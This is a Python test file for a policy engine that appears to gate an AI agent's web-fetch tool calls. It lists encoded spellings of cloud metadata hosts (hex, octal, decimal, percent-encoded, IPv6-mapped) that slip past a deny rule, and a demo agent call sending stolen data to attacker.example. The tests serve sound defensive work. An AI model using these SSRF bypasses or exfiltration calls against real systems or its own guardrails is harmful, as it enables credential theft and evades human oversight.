"""URLs whose ``destination_host`` differs from the host every HTTP client reaches.

``context.destination_host`` is the RFC 3986 host from ``urllib.parse.urlsplit``, lower
case. The architecture promises that "a URL on which parsers could disagree about the
host ... yields no destination_host at all". The hosts below are read one way by the
policy and another way by WHATWG URL parsers (browsers, Node's ``fetch``; checked with
Node 20's ``new URL``) and by ``getaddrinfo`` (numeric IPv4 forms), so a rule keyed on
the host's value — written the fail-closed way docs/how-to/write-policies.md recommends (``unless`` the
host is present and good) — lets a call reach the very host it names.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import msgspec
import pytest

from effectgate.contracts.directory import PrincipalDirectory
from effectgate.contracts.tools.descriptors import OperationSpec, ToolDescriptor
from effectgate.contracts.vocabulary import RiskTier, SideEffectClass, Verdict
from effectgate.policy.cedar.attributes import Attributes, parse_attributes
from effectgate.policy.cedar.engine import PolicyEngine
from effectgate.policy.cedar.loading import build_engine

DIRECTORY = PrincipalDirectory.from_toml("[principals.a1]\nautonomy = 1\n")
FETCH: dict[str, Any] = {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]}
WEB = ToolDescriptor(
    name="web",
    version="1.0.0",
    adapter="none",
    operations={
        "fetch": OperationSpec(
            input_schema=FETCH,
            output_schema={},
            side_effect_class=SideEffectClass.READ_ONLY,
            risk_tier=RiskTier.LOW,
            open_world=True,
            destination="/url",
        )
    },
)
NO_METADATA = """
@id("reads") permit (principal, action == Action::"execute", resource) when { context.side_effect == "READ_ONLY" };

@id("no-cloud-metadata")
@reason("the cloud metadata service is never reached")
forbid (principal, action, resource)
when { context.open_world }
unless {
  context has destination_host &&
  context.destination_host != "169.254.169.254" &&
  context.destination_host != "metadata.google.internal"
};
"""


@pytest.fixture(scope="module")
def rules() -> PolicyEngine:
    return build_engine(NO_METADATA, DIRECTORY, Attributes(), [WEB])


def _verdict(rules: PolicyEngine, url: str) -> Verdict:
    return rules.decide("a1", WEB, "fetch", {"url": url}).verdict


def test_the_rule_holds_for_the_plain_spellings(rules: PolicyEngine) -> None:
    assert _verdict(rules, "https://docs.python.org/") is Verdict.EXECUTE
    assert _verdict(rules, "http://169.254.169.254/latest/meta-data/") is Verdict.DENY
    assert _verdict(rules, "http://x@169.254.169.254/") is Verdict.DENY  # no host read: the unless fails


@pytest.mark.parametrize(
    ("url", "reached"),
    [
        ("http://2852039166/latest/meta-data/", "169.254.169.254"),  # one 32-bit number
        ("http://0xa9fea9fe/latest/meta-data/", "169.254.169.254"),  # hexadecimal
        ("http://0251.0376.0251.0376/latest/meta-data/", "169.254.169.254"),  # octal parts
        ("http://169.254.43518/latest/meta-data/", "169.254.169.254"),  # a.b.c16 shorthand
        ("http://169%2e254%2e169%2e254/latest/meta-data/", "169.254.169.254"),  # percent-encoded dots
        ("http://metadata%2egoogle%2einternal/computeMetadata/v1/", "metadata.google.internal"),
        ("http://metadata.google.internal./computeMetadata/v1/", "metadata.google.internal."),  # the same DNS name
        ("http://[::ffff:169.254.169.254]/latest/meta-data/", "[::ffff:a9fe:a9fe]"),  # IPv4-mapped IPv6
    ],
)
def test_a_host_spelled_another_way_is_not_let_through(rules: PolicyEngine, url: str, reached: str) -> None:
    """Input: ``web.fetch`` with ``url`` as in the parameter; ``reached`` is WHATWG's host.

    Now: ``execute``: the policy's host is ``2852039166`` / ``0xa9fea9fe`` /
    ``169%2e254%2e169%2e254`` / ``metadata.google.internal.`` / ``::ffff:169.254.169.254``,
    none of which the rule names, while the client connects to 169.254.169.254. Should:
    ``deny`` — either no ``destination_host`` for a host that is not plain (percent
    escapes, a numeric form that is not dotted-quad decimal, a trailing dot, an
    IPv4-mapped address), or the host the client reaches, normalised as WHATWG does.
    """
    assert _verdict(rules, url) is Verdict.DENY, f"{url} reaches {reached}"


def test_an_operation_that_names_a_destination_is_held_to_the_allow_list(repo_root: Path) -> None:
    """Input: a descriptor published with ``destination = "/url"`` but without
    ``open_world = true`` (``OperationSpec.open_world`` defaults to false for every
    descriptor that is not an untrusted MCP server's); the shipped ``deploy/policy``
    files; ``demo-agent`` (autonomy 1, ``allowed_hosts = ["docs.python.org",
    "peps.python.org"]``) fetching ``https://attacker.example/?q=<stolen data>``.

    Now: ``execute`` (``read-only-low-risk``): the operation is not open-world, so the
    host is read and ignored, and the policy guide's worked example 3 — "a fetch of
    https://attacker.example/?q=<stolen data> waits for an operator" — does not hold.
    Should: ``needs_approval``: an operation that names the URL it reaches is open-world
    (or a descriptor with a ``destination`` and ``open_world = false`` is refused at publish).
    """
    closed = msgspec.structs.replace(WEB.operations["fetch"], open_world=False)
    web = msgspec.structs.replace(WEB, operations={"fetch": closed})
    policy = repo_root / "deploy/policy"
    engine = build_engine(
        (policy / "policy.cedar").read_text(encoding="utf-8"),
        PrincipalDirectory.from_toml((policy / "principals.toml").read_text(encoding="utf-8")),
        parse_attributes((policy / "attributes.toml").read_text(encoding="utf-8")),
        [web],
    )
    outcome = engine.decide("demo-agent", web, "fetch", {"url": "https://attacker.example/?q=secret"})
    assert outcome.verdict is Verdict.NEEDS_APPROVAL, outcome.reason
